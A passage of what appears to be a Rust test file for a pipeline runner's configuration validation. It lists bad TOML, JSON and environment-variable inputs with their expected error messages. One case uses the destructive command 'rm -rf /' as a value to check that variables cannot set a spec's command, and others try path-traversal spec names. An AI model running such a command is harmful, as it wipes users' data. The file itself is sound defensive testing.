//! Loading, layering and validation, through the real binary (and, for the property
//! tests, through the library in-process).

use std::collections::BTreeMap;

use serde_json::{Value, json};

use crate::harness::*;

/// A pipeline with one spec, for tests about policy rather than specs.
const ONE_SPEC: &str = "[specs.a]\ncommand = \"true\"\n";

/// `plan --format json` of a test.
fn plan(t: Test) -> Value {
    plan_with(t, &[])
}

/// `plan --format json ARGS…` of a test.
fn plan_with(t: Test, extra: &[&str]) -> Value {
    let mut args = vec!["plan", "--format", "json"];
    args.extend(extra);
    let run = t.args(&args).run();
    run.code(0);
    run.json()
}

/// The entry of spec `name` in a `plan --format json` document.
fn spec<'a>(plan: &'a Value, name: &str) -> &'a Value {
    plan["specs"]
        .as_array()
        .expect("specs is an array")
        .iter()
        .find(|s| s["name"] == name)
        .unwrap_or_else(|| panic!("no spec {name} in {plan:#}"))
}

/// A spec's effective value and origin of one policy key.
fn policy<'a>(plan: &'a Value, name: &str, key: &str) -> (&'a Value, &'a str) {
    let s = spec(plan, name);
    let origin = s["origins"][key]
        .as_str()
        .unwrap_or_else(|| panic!("no origin of {key} for {name}: {s:#}"));
    (&s["policy"][key], origin)
}

// ---------------------------------------------------------------------------------
// Every bad input of issue #2 item 5: exit 2, the source and the key path named.
// ---------------------------------------------------------------------------------

/// One bad input and the problem line it must produce.
struct Bad {
    /// What the case is about, for the failure report.
    what: &'static str,
    /// `spec-runner.toml`'s text.
    pipeline: &'static str,
    /// `config.json`'s text, when there is one.
    config_json: Option<&'static str>,
    env: &'static [(&'static str, &'static str)],
    /// Arguments after `validate`.
    args: &'static [&'static str],
    /// The problem line starts `error: {source}: `{key}`: `.
    source: &'static str,
    key: &'static str,
    /// Fragments of the message: the bad value and what is expected.
    says: &'static [&'static str],
}

const BAD: Bad = Bad {
    what: "",
    pipeline: ONE_SPEC,
    config_json: None,
    env: &[],
    args: &[],
    source: "",
    key: "",
    says: &[],
};

const BAD_INPUTS: &[Bad] = &[
    // Unknown keys, with a did-you-mean, in each place a key can be written.
    Bad {
        what: "unknown root key",
        pipeline: "retry_max_retrys = 2\n[specs.a]\ncommand = \"true\"\n",
        source: "spec-runner.toml:1:1",
        key: "retry_max_retrys",
        says: &["unknown key", "did you mean `retry_max_retries`?"],
        ..BAD
    },
    Bad {
        what: "unknown spec key",
        pipeline: "[specs.a]\ncommand = \"true\"\ncomand = \"x\"\n",
        source: "spec-runner.toml:3:1",
        key: "specs.a.comand",
        says: &["unknown key", "did you mean `command`?"],
        ..BAD
    },
    Bad {
        what: "unknown key in a rule",
        pipeline: "[[retry_rules]]\nexit_code = [1]\naction = \"fail\"\n[specs.a]\ncommand = \"true\"\n",
        source: "spec-runner.toml:2:1",
        key: "retry_rules[0].exit_code",
        says: &["unknown key", "did you mean `exit_codes`?"],
        ..BAD
    },
    Bad {
        what: "unknown key in a spec's rule",
        pipeline: "[specs.a]\ncommand = \"true\"\n[[specs.a.retry_rules]]\naction = \"fail\"\noutptu = \"x\"\n",
        source: "spec-runner.toml:5:1",
        key: "specs.a.retry_rules[0].outptu",
        says: &["unknown key", "did you mean `output`?"],
        ..BAD
    },
    Bad {
        what: "unknown key in config.json",
        config_json: Some(r#"{"retry_backof_seconds": 1}"#),
        source: "config.json",
        key: "retry_backof_seconds",
        says: &["unknown key", "did you mean `retry_backoff_seconds`?"],
        ..BAD
    },
    Bad {
        what: "unknown key in a per-spec variable",
        env: &[("SPEC_RUNNER_SPECS__A__TIMEOUT", "3")],
        source: "variable SPEC_RUNNER_SPECS__A__TIMEOUT",
        key: "specs.a.timeout",
        says: &["unknown key", "did you mean `timeout_seconds`?"],
        ..BAD
    },
    Bad {
        what: "a key of the original tool outside config.json",
        pipeline: "repos_root = \"~/code\"\n[specs.a]\ncommand = \"true\"\n",
        source: "spec-runner.toml:1:1",
        key: "repos_root",
        says: &["unknown key"],
        ..BAD
    },
    // Wrong types.
    Bad {
        what: "a string for a count",
        pipeline: "retry_max_retries = \"three\"\n[specs.a]\ncommand = \"true\"\n",
        source: "spec-runner.toml:1:21",
        key: "retry_max_retries",
        says: &["\"three\"", "expected a whole number"],
        ..BAD
    },
    Bad {
        what: "a fraction for a count",
        pipeline: "[specs.a]\ncommand = \"true\"\nretry_max_retries = 2.5\n",
        source: "spec-runner.toml:3:21",
        key: "specs.a.retry_max_retries",
        says: &["2.5", "expected a whole number"],
        ..BAD
    },
    Bad {
        what: "a string for a boolean",
        pipeline: "retry_on_crash = \"yes\"\n[specs.a]\ncommand = \"true\"\n",
        source: "spec-runner.toml:1:18",
        key: "retry_on_crash",
        says: &["\"yes\"", "expected true or false"],
        ..BAD
    },
    Bad {
        what: "a string for depends_on",
        pipeline: "[specs.a]\ncommand = \"true\"\ndepends_on = \"b\"\n[specs.b]\ncommand = \"true\"\n",
        source: "spec-runner.toml:3:14",
        key: "specs.a.depends_on",
        says: &["\"b\"", "expected an array"],
        ..BAD
    },
    Bad {
        what: "an array for env",
        pipeline: "[specs.a]\ncommand = \"true\"\nenv = [\"A=1\"]\n",
        source: "spec-runner.toml:3:7",
        key: "specs.a.env",
        says: &["A=1", "expected a table"],
        ..BAD
    },
    Bad {
        what: "a number as an env value",
        pipeline: "[specs.a]\ncommand = \"true\"\nenv = { A = 1 }\n",
        source: "spec-runner.toml:3:13",
        key: "specs.a.env.A",
        says: &["1", "expected a string"],
        ..BAD
    },
    Bad {
        what: "a string for jobs",
        pipeline: "jobs = \"2\"\n[specs.a]\ncommand = \"true\"\n",
        source: "spec-runner.toml:1:8",
        key: "jobs",
        says: &["\"2\"", "expected a whole number from 1 to 1024"],
        ..BAD
    },
    Bad {
        what: "a negative jobs",
        pipeline: "jobs = -1\n[specs.a]\ncommand = \"true\"\n",
        source: "spec-runner.toml:1:8",
        key: "jobs",
        says: &[
            "-1 is out of range",
            "expected a whole number from 1 to 1024",
        ],
        ..BAD
    },
    Bad {
        what: "an env name holding `=`",
        pipeline: "[specs.a]\ncommand = \"true\"\nenv = { \"A=B\" = \"x\" }\n",
        source: "spec-runner.toml:3:9",
        key: "specs.a.env.\"A=B\"",
        says: &["`A=B` holds `=`", "expected a name without `=`"],
        ..BAD
    },
    Bad {
        what: "an empty env name",
        pipeline: "[specs.a]\ncommand = \"true\"\n[specs.a.env]\n\"\" = \"x\"\n",
        source: "spec-runner.toml:4:1",
        key: "specs.a.env.\"\"",
        says: &["empty variable name", "expected a name"],
        ..BAD
    },
    Bad {
        what: "an exit code above 255",
        pipeline: "[[retry_rules]]\nexit_codes = [1, 256]\naction = \"fail\"\n[specs.a]\ncommand = \"true\"\n",
        source: "spec-runner.toml:2:18",
        key: "retry_rules[0].exit_codes[1]",
        says: &["256 can never match", "expected an exit code from 0 to 255"],
        ..BAD
    },
    Bad {
        what: "a negative exit code in a spec's rule",
        pipeline: "[specs.a]\ncommand = \"true\"\n[[specs.a.retry_rules]]\nexit_codes = [-1]\naction = \"fail\"\n",
        source: "spec-runner.toml:4:15",
        key: "specs.a.retry_rules[0].exit_codes[0]",
        says: &["-1 can never match", "expected an exit code from 0 to 255"],
        ..BAD
    },
    Bad {
        what: "a number inside a command array",
        pipeline: "[specs.a]\ncommand = [\"ls\", 7]\n",
        source: "spec-runner.toml:2:18",
        key: "specs.a.command[1]",
        says: &["7", "expected a string"],
        ..BAD
    },
    Bad {
        what: "a number for a path",
        pipeline: "retry_log_dir = 5\n[specs.a]\ncommand = \"true\"\n",
        source: "spec-runner.toml:1:17",
        key: "retry_log_dir",
        says: &["5", "expected a string"],
        ..BAD
    },
    Bad {
        what: "a number for an enum",
        pipeline: "retry_jitter = 1\n[specs.a]\ncommand = \"true\"\n",
        source: "spec-runner.toml:1:16",
        key: "retry_jitter",
        says: &["1", "`none`, `full`, `equal`, `decorrelated`"],
        ..BAD
    },
    Bad {
        what: "a bad jitter name",
        pipeline: "retry_jitter = \"random\"\n[specs.a]\ncommand = \"true\"\n",
        source: "spec-runner.toml:1:16",
        key: "retry_jitter",
        says: &["`random`", "`none`, `full`, `equal`, `decorrelated`"],
        ..BAD
    },
    Bad {
        what: "a TOML date for a duration",
        pipeline: "timeout_seconds = 1979-05-27\n[specs.a]\ncommand = \"true\"\n",
        source: "spec-runner.toml:1:19",
        key: "timeout_seconds",
        says: &["1979-05-27", "duration"],
        ..BAD
    },
    Bad {
        what: "a wrong type in a variable",
        env: &[("SPEC_RUNNER_JOBS", "many")],
        source: "variable SPEC_RUNNER_JOBS",
        key: "jobs",
        says: &["\"many\"", "expected a whole number"],
        ..BAD
    },
    Bad {
        what: "an empty variable for a count",
        env: &[("SPEC_RUNNER_RETRY_MAX_RETRIES", "")],
        source: "variable SPEC_RUNNER_RETRY_MAX_RETRIES",
        key: "retry_max_retries",
        says: &["\"\"", "expected a whole number"],
        ..BAD
    },
    Bad {
        what: "a wrong type in config.json",
        config_json: Some(r#"{"retry_on_crash": "yes"}"#),
        source: "config.json",
        key: "retry_on_crash",
        says: &["\"yes\"", "expected true or false"],
        ..BAD
    },
    Bad {
        what: "specs that is not a table",
        pipeline: "specs = 3\n",
        source: "spec-runner.toml:1:9",
        key: "specs",
        says: &["3", "expected a table of specs"],
        ..BAD
    },
    Bad {
        what: "a spec that is not a table",
        pipeline: "specs.a = \"echo hi\"\n",
        source: "spec-runner.toml:1:11",
        key: "specs.a",
        says: &["\"echo hi\"", "expected a table"],
        ..BAD
    },
    Bad {
        what: "retry_rules that is not an array",
        pipeline: "retry_rules = 5\n[specs.a]\ncommand = \"true\"\n",
        source: "spec-runner.toml:1:15",
        key: "retry_rules",
        says: &["5", "expected an array of rules"],
        ..BAD
    },
    Bad {
        what: "a rule that is not a table",
        pipeline: "retry_rules = [\"retry\"]\n[specs.a]\ncommand = \"true\"\n",
        source: "spec-runner.toml:1:16",
        key: "retry_rules[0]",
        says: &["\"retry\"", "expected a table"],
        ..BAD
    },
    // Ranges.
    Bad {
        what: "multiplier below 1",
        pipeline: "retry_backoff_multiplier = 0.5\n[specs.a]\ncommand = \"true\"\n",
        source: "spec-runner.toml:1:28",
        key: "retry_backoff_multiplier",
        says: &["0.5", "≥ 1"],
        ..BAD
    },
    Bad {
        what: "multiplier below 1 with no spec to use it",
        pipeline: "retry_backoff_multiplier = 0.5\n",
        source: "spec-runner.toml:1:28",
        key: "retry_backoff_multiplier",
        says: &["0.5", "≥ 1"],
        ..BAD
    },
    Bad {
        what: "multiplier below 1 in a spec",
        pipeline: "[specs.a]\ncommand = \"true\"\nretry_backoff_multiplier = 0\n",
        source: "spec-runner.toml:3:28",
        key: "specs.a.retry_backoff_multiplier",
        says: &["0", "≥ 1"],
        ..BAD
    },
    Bad {
        what: "multiplier below 1 in a per-spec variable",
        env: &[("SPEC_RUNNER_SPECS__A__RETRY_BACKOFF_MULTIPLIER", "0.9")],
        source: "variable SPEC_RUNNER_SPECS__A__RETRY_BACKOFF_MULTIPLIER",
        key: "specs.a.retry_backoff_multiplier",
        says: &["0.9", "≥ 1"],
        ..BAD
    },
    Bad {
        what: "multiplier below 1 in config.json",
        config_json: Some(r#"{"retry_backoff_multiplier": 0.25}"#),
        source: "config.json",
        key: "retry_backoff_multiplier",
        says: &["0.25", "≥ 1"],
        ..BAD
    },
    Bad {
        what: "negative retries",
        pipeline: "retry_max_retries = -1\n[specs.a]\ncommand = \"true\"\n",
        source: "spec-runner.toml:1:21",
        key: "retry_max_retries",
        says: &["-1", "≥ 0"],
        ..BAD
    },
    Bad {
        what: "a negative activity timeout in a spec",
        pipeline: "[specs.a]\ncommand = \"true\"\nactivity_timeout_seconds = -5\n",
        source: "spec-runner.toml:3:28",
        key: "specs.a.activity_timeout_seconds",
        says: &["expected a duration > 0"],
        ..BAD
    },
    Bad {
        what: "a negative slurm poll interval (its floor is 0.05 s)",
        pipeline: "[slurm]\npoll_interval_seconds = -1\n[specs.a]\ncommand = \"true\"\n",
        source: "spec-runner.toml:2:25",
        key: "slurm.poll_interval_seconds",
        says: &["-1 is out of range: expected a duration ≥ 0.05 seconds"],
        ..BAD
    },
    Bad {
        what: "a negative max_iterations (0 is refused too)",
        pipeline: "max_iterations = -1\n[specs.a]\ncommand = \"true\"\n",
        source: "spec-runner.toml:1:18",
        key: "max_iterations",
        says: &["-1 is out of range: expected a whole number ≥ 1"],
        ..BAD
    },
    Bad {
        what: "negative retry budget",
        pipeline: "retry_budget = -5\n[specs.a]\ncommand = \"true\"\n",
        source: "spec-runner.toml:1:16",
        key: "retry_budget",
        says: &["-5", "≥ 0"],
        ..BAD
    },
    Bad {
        what: "retries beyond u32",
        pipeline: "retry_max_retries = 5000000000\n[specs.a]\ncommand = \"true\"\n",
        source: "spec-runner.toml:1:21",
        key: "retry_max_retries",
        says: &["5000000000", "out of range"],
        ..BAD
    },
    Bad {
        what: "zero jobs",
        pipeline: "jobs = 0\n[specs.a]\ncommand = \"true\"\n",
        source: "spec-runner.toml:1:8",
        key: "jobs",
        says: &["0", "at least 1"],
        ..BAD
    },
    Bad {
        what: "zero jobs from a variable",
        env: &[("SPEC_RUNNER_JOBS", "0")],
        source: "variable SPEC_RUNNER_JOBS",
        key: "jobs",
        says: &["0", "at least 1"],
        ..BAD
    },
    Bad {
        what: "zero jobs from the flag",
        args: &["-j", "0"],
        source: "flag --jobs",
        key: "jobs",
        says: &["0", "at least 1"],
        ..BAD
    },
    Bad {
        what: "negative duration",
        pipeline: "timeout_seconds = -1\n[specs.a]\ncommand = \"true\"\n",
        source: "spec-runner.toml:1:19",
        key: "timeout_seconds",
        // 0 is refused too: never "≥ 0".
        says: &["-1 is out of range: expected a duration > 0"],
        ..BAD
    },
    Bad {
        what: "negative fractional duration in a spec",
        pipeline: "[specs.a]\ncommand = \"true\"\nretry_backoff_seconds = -0.5\n",
        source: "spec-runner.toml:3:25",
        key: "specs.a.retry_backoff_seconds",
        says: &["-0.5", "≥ 0"],
        ..BAD
    },
    Bad {
        what: "negative duration string",
        pipeline: "terminate_grace_seconds = \"-5s\"\n[specs.a]\ncommand = \"true\"\n",
        source: "spec-runner.toml:1:27",
        key: "terminate_grace_seconds",
        says: &["-5s", "duration"],
        ..BAD
    },
    Bad {
        what: "unknown duration unit",
        pipeline: "activity_timeout_seconds = \"5 parsecs\"\n[specs.a]\ncommand = \"true\"\n",
        source: "spec-runner.toml:1:28",
        key: "activity_timeout_seconds",
        says: &["`parsecs`", "ms, s, m, h or d"],
        ..BAD
    },
    Bad {
        what: "duration over the limit as a number",
        pipeline: "retry_max_total_seconds = 1e10\n[specs.a]\ncommand = \"true\"\n",
        source: "spec-runner.toml:1:27",
        key: "retry_max_total_seconds",
        says: &["10000000000", "too long", "at most 1000000000"],
        ..BAD
    },
    Bad {
        what: "duration over the limit as a string",
        pipeline: "[specs.a]\ncommand = \"true\"\ntimeout_seconds = \"20000d\"\n",
        source: "spec-runner.toml:3:19",
        key: "specs.a.timeout_seconds",
        says: &["20000d", "too long"],
        ..BAD
    },
    Bad {
        what: "bad duration in a variable",
        env: &[("SPEC_RUNNER_RETRY_MAX_BACKOFF_SECONDS", "soon")],
        source: "variable SPEC_RUNNER_RETRY_MAX_BACKOFF_SECONDS",
        key: "retry_max_backoff_seconds",
        says: &["`soon`", "not a duration"],
        ..BAD
    },
    // Spec names.
    Bad {
        what: "spec name with a slash",
        pipeline: "[specs.\"a/b\"]\ncommand = \"true\"\n",
        source: "spec-runner.toml:1:8",
        key: "specs.\"a/b\"",
        says: &["`a/b`", "invalid spec name", "letters, digits"],
        ..BAD
    },
    Bad {
        what: "spec name with ..",
        pipeline: "[specs.\"a..b\"]\ncommand = \"true\"\n",
        source: "spec-runner.toml:1:8",
        key: "specs.a..b",
        says: &["`a..b`", "without `..`"],
        ..BAD
    },
    Bad {
        what: "spec name that climbs out",
        pipeline: "[specs.\"../x\"]\ncommand = \"true\"\n",
        source: "spec-runner.toml:1:8",
        key: "specs.\"../x\"",
        says: &["`../x`", "invalid spec name"],
        ..BAD
    },
    Bad {
        what: "absolute spec name",
        pipeline: "[specs.\"/etc\"]\ncommand = \"true\"\n",
        source: "spec-runner.toml:1:8",
        key: "specs.\"/etc\"",
        says: &["`/etc`", "invalid spec name"],
        ..BAD
    },
    Bad {
        what: "spec name that is just ..",
        pipeline: "[specs.\"..\"]\ncommand = \"true\"\n",
        source: "spec-runner.toml:1:8",
        key: "specs...",
        says: &["`..`", "invalid spec name"],
        ..BAD
    },
    Bad {
        what: "hidden spec name",
        pipeline: "[specs.\".hidden\"]\ncommand = \"true\"\n",
        source: "spec-runner.toml:1:8",
        key: "specs..hidden",
        says: &["`.hidden`", "starting with a letter or digit"],
        ..BAD
    },
    Bad {
        what: "spec name with a space",
        pipeline: "[specs.\"a b\"]\ncommand = \"true\"\n",
        source: "spec-runner.toml:1:8",
        key: "specs.\"a b\"",
        says: &["`a b`", "invalid spec name"],
        ..BAD
    },
    Bad {
        what: "spec name with a backslash",
        pipeline: "[specs.'a\\b']\ncommand = \"true\"\n",
        source: "spec-runner.toml:1:8",
        key: "specs.\"a\\\\b\"",
        says: &["invalid spec name"],
        ..BAD
    },
    Bad {
        what: "non-ASCII spec name",
        pipeline: "[specs.\"é\"]\ncommand = \"true\"\n",
        source: "spec-runner.toml:1:8",
        key: "specs.\"é\"",
        says: &["`é`", "invalid spec name"],
        ..BAD
    },
    Bad {
        what: "empty spec name",
        pipeline: "[specs.\"\"]\ncommand = \"true\"\n",
        source: "spec-runner.toml:1:8",
        key: "specs.\"\"",
        says: &["``", "invalid spec name"],
        ..BAD
    },
    // Commands.
    Bad {
        what: "empty string command",
        pipeline: "[specs.a]\ncommand = \"\"\n",
        source: "spec-runner.toml:2:11",
        key: "specs.a.command",
        says: &["empty command"],
        ..BAD
    },
    Bad {
        what: "blank string command",
        pipeline: "[specs.a]\ncommand = \"  \\n \"\n",
        source: "spec-runner.toml:2:11",
        key: "specs.a.command",
        says: &["empty command"],
        ..BAD
    },
    Bad {
        what: "empty array command",
        pipeline: "[specs.a]\ncommand = []\n",
        source: "spec-runner.toml:2:11",
        key: "specs.a.command",
        says: &["empty command", "non-empty array"],
        ..BAD
    },
    Bad {
        what: "array command with an empty program",
        pipeline: "[specs.a]\ncommand = [\"\", \"x\"]\n",
        source: "spec-runner.toml:2:11",
        key: "specs.a.command",
        says: &["empty command"],
        ..BAD
    },
    Bad {
        what: "missing command",
        pipeline: "[specs.a]\ncwd = \".\"\n",
        source: "spec-runner.toml:1:8",
        key: "specs.a",
        says: &["missing `command`"],
        ..BAD
    },
    Bad {
        what: "a spec's own problem while a variable sets one of its keys",
        pipeline: "[specs.a]\ncwd = \".\"\n",
        env: &[("SPEC_RUNNER_SPECS__A__RETRY_MAX_RETRIES", "1")],
        source: "spec-runner.toml:1:8",
        key: "specs.a",
        says: &["missing `command`"],
        ..BAD
    },
    Bad {
        what: "a number as the command",
        pipeline: "[specs.a]\ncommand = 42\n",
        source: "spec-runner.toml:2:11",
        key: "specs.a.command",
        says: &["42", "a string", "an array of strings"],
        ..BAD
    },
    Bad {
        what: "empty on_exhausted",
        pipeline: "on_exhausted = \"\"\n[specs.a]\ncommand = \"true\"\n",
        source: "spec-runner.toml:1:16",
        key: "on_exhausted",
        says: &["empty command"],
        ..BAD
    },
    // The dependency graph.
    Bad {
        what: "unknown depends_on target",
        pipeline: "[specs.a]\ncommand = \"true\"\ndepends_on = [\"build\", \"tset\"]\n[specs.build]\ncommand = \"true\"\n[specs.test]\ncommand = \"true\"\n",
        source: "spec-runner.toml:3:24",
        key: "specs.a.depends_on[1]",
        says: &["`tset`", "not a spec", "did you mean `test`?"],
        ..BAD
    },
    Bad {
        what: "a dependency cycle",
        pipeline: "[specs.a]\ncommand = \"true\"\ndepends_on = [\"c\"]\n[specs.b]\ncommand = \"true\"\ndepends_on = [\"a\"]\n[specs.c]\ncommand = \"true\"\ndepends_on = [\"b\"]\n[specs.d]\ncommand = \"true\"\n",
        source: "spec-runner.toml:3:15",
        key: "specs.a.depends_on[0]",
        says: &["dependency cycle", "a → c → b → a"],
        ..BAD
    },
    Bad {
        what: "a spec that depends on itself",
        pipeline: "[specs.a]\ncommand = \"true\"\ndepends_on = [\"a\"]\n",
        source: "spec-runner.toml:3:15",
        key: "specs.a.depends_on[0]",
        says: &["dependency cycle", "a → a"],
        ..BAD
    },
    // Rules.
    Bad {
        what: "invalid regex",
        pipeline: "[[retry_rules]]\noutput = \"(unclosed\"\naction = \"retry\"\n[specs.a]\ncommand = \"true\"\n",
        source: "spec-runner.toml:2:10",
        key: "retry_rules[0].output",
        says: &[
            "\"(unclosed\"",
            "invalid regular expression",
            "unclosed group",
        ],
        ..BAD
    },
    Bad {
        what: "invalid regex in a spec's inline rule",
        pipeline: "[specs.a]\ncommand = \"true\"\nretry_rules = [{ action = \"retry\" }, { output = \"a{2,1}\", action = \"retry\" }]\n",
        source: "spec-runner.toml:3:49",
        key: "specs.a.retry_rules[1].output",
        says: &["\"a{2,1}\"", "invalid regular expression"],
        ..BAD
    },
    Bad {
        what: "unknown action",
        pipeline: "[[retry_rules]]\nexit_codes = [1]\naction = \"explode\"\n[specs.a]\ncommand = \"true\"\n",
        source: "spec-runner.toml:3:10",
        key: "retry_rules[0].action",
        says: &["`explode`", "`retry`, `fail`, `abort`"],
        ..BAD
    },
    Bad {
        what: "missing action",
        pipeline: "[specs.a]\ncommand = \"true\"\n[[specs.a.retry_rules]]\nexit_codes = [1]\n",
        source: "spec-runner.toml:3:1",
        key: "specs.a.retry_rules[0]",
        says: &["missing `action`", "`retry`, `fail`, `abort`"],
        ..BAD
    },
    Bad {
        what: "unknown signal",
        pipeline: "[[retry_rules]]\nsignals = [\"SIGSEGV\", \"SIGFOO\"]\naction = \"fail\"\n[specs.a]\ncommand = \"true\"\n",
        source: "spec-runner.toml:2:23",
        key: "retry_rules[0].signals[1]",
        says: &["`SIGFOO`", "unknown signal", "SIGSEGV"],
        ..BAD
    },
    Bad {
        what: "empty exit_codes",
        pipeline: "[[retry_rules]]\nexit_codes = []\naction = \"fail\"\n[specs.a]\ncommand = \"true\"\n",
        source: "spec-runner.toml:2:14",
        key: "retry_rules[0].exit_codes",
        says: &["empty", "at least one exit code"],
        ..BAD
    },
    Bad {
        what: "empty signals",
        pipeline: "[specs.a]\ncommand = \"true\"\n[[specs.a.retry_rules]]\nsignals = []\naction = \"retry\"\n",
        source: "spec-runner.toml:4:11",
        key: "specs.a.retry_rules[0].signals",
        says: &["empty", "at least one signal"],
        ..BAD
    },
    Bad {
        what: "unknown timeout kind",
        pipeline: "[[retry_rules]]\ntimeout = \"sometimes\"\naction = \"retry\"\n[specs.a]\ncommand = \"true\"\n",
        source: "spec-runner.toml:2:11",
        key: "retry_rules[0].timeout",
        says: &["`sometimes`", "`activity`, `total`, `any`"],
        ..BAD
    },
    Bad {
        what: "negative rule backoff",
        pipeline: "[[retry_rules]]\naction = \"retry\"\nbackoff_seconds = -2\n[specs.a]\ncommand = \"true\"\n",
        source: "spec-runner.toml:3:19",
        key: "retry_rules[0].backoff_seconds",
        says: &["-2", "≥ 0"],
        ..BAD
    },
    // Variables may set policy keys only.
    Bad {
        what: "a variable setting a spec's command",
        env: &[("SPEC_RUNNER_SPECS__A__COMMAND", "rm -rf /")],
        source: "variable SPEC_RUNNER_SPECS__A__COMMAND",
        key: "specs.a.command",
        says: &["only be set in the pipeline file", "policy keys only"],
        ..BAD
    },
    Bad {
        what: "a variable setting cwd",
        env: &[("SPEC_RUNNER_CWD", "/")],
        source: "variable SPEC_RUNNER_CWD",
        key: "cwd",
        says: &["only be set in the pipeline file"],
        ..BAD
    },
    Bad {
        what: "a variable setting a spec's cwd",
        env: &[("SPEC_RUNNER_SPECS__A__CWD", "/")],
        source: "variable SPEC_RUNNER_SPECS__A__CWD",
        key: "specs.a.cwd",
        says: &["only be set in the pipeline file"],
        ..BAD
    },
    Bad {
        what: "a variable setting env",
        env: &[("SPEC_RUNNER_SPECS__A__ENV", "{A=1}")],
        source: "variable SPEC_RUNNER_SPECS__A__ENV",
        key: "specs.a.env",
        says: &["only be set in the pipeline file"],
        ..BAD
    },
    Bad {
        what: "a variable setting depends_on",
        env: &[("SPEC_RUNNER_DEPENDS_ON", "[a]")],
        source: "variable SPEC_RUNNER_DEPENDS_ON",
        key: "depends_on",
        says: &["only be set in the pipeline file"],
        ..BAD
    },
    Bad {
        what: "a variable setting a spec's depends_on",
        env: &[("SPEC_RUNNER_SPECS__A__DEPENDS_ON", "[a]")],
        source: "variable SPEC_RUNNER_SPECS__A__DEPENDS_ON",
        key: "specs.a.depends_on",
        says: &["only be set in the pipeline file"],
        ..BAD
    },
    Bad {
        what: "a variable setting the specs table",
        env: &[("SPEC_RUNNER_SPECS", "{}")],
        source: "variable SPEC_RUNNER_SPECS",
        key: "specs",
        says: &["only be set in the pipeline file"],
        ..BAD
    },
    Bad {
        what: "a variable naming an unknown spec",
        env: &[("SPEC_RUNNER_SPECS__BUILD__RETRY_MAX_RETRIES", "1")],
        pipeline: "[specs.biuld]\ncommand = \"true\"\n",
        source: "variable SPEC_RUNNER_SPECS__BUILD__RETRY_MAX_RETRIES",
        key: "specs.BUILD.retry_max_retries",
        says: &["no spec is named `BUILD`", "did you mean `BIULD`?"],
        ..BAD
    },
    Bad {
        what: "a variable naming two specs that differ by - and .",
        pipeline: "[specs.a-b]\ncommand = \"true\"\n[specs.\"a.b\"]\ncommand = \"true\"\n",
        env: &[("SPEC_RUNNER_SPECS__A_B__RETRY_MAX_RETRIES", "1")],
        source: "variable SPEC_RUNNER_SPECS__A_B__RETRY_MAX_RETRIES",
        key: "specs.A_B.retry_max_retries",
        says: &["more than one spec", "a-b, a.b"],
        ..BAD
    },
    Bad {
        what: "two variables for the same key",
        env: &[
            ("SPEC_RUNNER_SPECS__A__RETRY_MAX_RETRIES", "1"),
            ("SPEC_RUNNER_SPECS__a__RETRY_MAX_RETRIES", "2"),
        ],
        source: "variable SPEC_RUNNER_SPECS__a__RETRY_MAX_RETRIES",
        key: "specs.a.retry_max_retries",
        says: &["also set by SPEC_RUNNER_SPECS__A__RETRY_MAX_RETRIES"],
        ..BAD
    },
    Bad {
        what: "a variable naming two specs that differ by case",
        pipeline: "[specs.Build]\ncommand = \"true\"\n[specs.build]\ncommand = \"true\"\n",
        env: &[("SPEC_RUNNER_SPECS__BUILD__TIMEOUT_SECONDS", "5")],
        source: "variable SPEC_RUNNER_SPECS__BUILD__TIMEOUT_SECONDS",
        key: "specs.BUILD.timeout_seconds",
        says: &["more than one spec", "Build, build"],
        ..BAD
    },
    // Run-wide keys are global only.
    Bad {
        what: "jobs inside a spec",
        pipeline: "[specs.a]\ncommand = \"true\"\njobs = 3\n",
        source: "spec-runner.toml:3:1",
        key: "specs.a.jobs",
        says: &["run-wide", "top of the pipeline file"],
        ..BAD
    },
    Bad {
        what: "fail_fast inside a spec",
        pipeline: "[specs.a]\ncommand = \"true\"\nfail_fast = true\n",
        source: "spec-runner.toml:3:1",
        key: "specs.a.fail_fast",
        says: &["run-wide"],
        ..BAD
    },
    Bad {
        what: "retry_budget inside a spec",
        pipeline: "[specs.a]\ncommand = \"true\"\nretry_budget = 3\n",
        source: "spec-runner.toml:3:1",
        key: "specs.a.retry_budget",
        says: &["run-wide"],
        ..BAD
    },
    Bad {
        what: "state_dir inside a spec",
        pipeline: "[specs.a]\ncommand = \"true\"\nstate_dir = \"s\"\n",
        source: "spec-runner.toml:3:1",
        key: "specs.a.state_dir",
        says: &["run-wide"],
        ..BAD
    },
    Bad {
        what: "junit_path inside a spec",
        pipeline: "[specs.a]\ncommand = \"true\"\njunit_path = \"j.xml\"\n",
        source: "spec-runner.toml:3:1",
        key: "specs.a.junit_path",
        says: &["run-wide"],
        ..BAD
    },
    Bad {
        what: "a run-wide key in a per-spec variable",
        env: &[("SPEC_RUNNER_SPECS__A__JOBS", "3")],
        source: "variable SPEC_RUNNER_SPECS__A__JOBS",
        key: "specs.a.jobs",
        says: &["run-wide", "SPEC_RUNNER_JOBS"],
        ..BAD
    },
    // config.json holds policy only.
    Bad {
        what: "specs in config.json",
        config_json: Some(r#"{"specs": {"a": {"command": "x"}}}"#),
        source: "config.json",
        key: "specs",
        says: &["only in the pipeline file"],
        ..BAD
    },
    // A bad value is a problem even where a higher layer overrides it: the day the
    // override goes, it would break.
    Bad {
        what: "a bad value in config.json that the pipeline file overrides",
        pipeline: "retry_max_retries = 2\n[specs.a]\ncommand = \"true\"\n",
        config_json: Some(r#"{"retry_max_retries": "three"}"#),
        source: "config.json",
        key: "retry_max_retries",
        says: &["\"three\"", "whole number"],
        ..BAD
    },
    Bad {
        what: "a bad spec value in the file that a variable overrides",
        pipeline: "[specs.a]\ncommand = \"true\"\ntimeout_seconds = \"5 parsecs\"\n",
        env: &[("SPEC_RUNNER_SPECS__A__TIMEOUT_SECONDS", "5")],
        source: "spec-runner.toml:3:19",
        key: "specs.a.timeout_seconds",
        says: &["5 parsecs", "not a duration"],
        ..BAD
    },
    Bad {
        what: "an out-of-range value in the file that a variable overrides",
        pipeline: "retry_backoff_multiplier = 0.5\n[specs.a]\ncommand = \"true\"\n",
        env: &[("SPEC_RUNNER_RETRY_BACKOFF_MULTIPLIER", "2")],
        source: "spec-runner.toml:1:28",
        key: "retry_backoff_multiplier",
        says: &["0.5", "≥ 1"],
        ..BAD
    },
    Bad {
        what: "a bad rule in the file that a variable overrides",
        pipeline: "[[retry_rules]]\noutput = \"(\"\naction = \"retry\"\n[specs.a]\ncommand = \"true\"\n",
        env: &[("SPEC_RUNNER_RETRY_RULES", "[]")],
        source: "spec-runner.toml:2:10",
        key: "retry_rules[0].output",
        says: &["regular expression"],
        ..BAD
    },
    Bad {
        what: "a bad variable that a flag overrides",
        env: &[("SPEC_RUNNER_JOBS", "0")],
        args: &["-j", "2"],
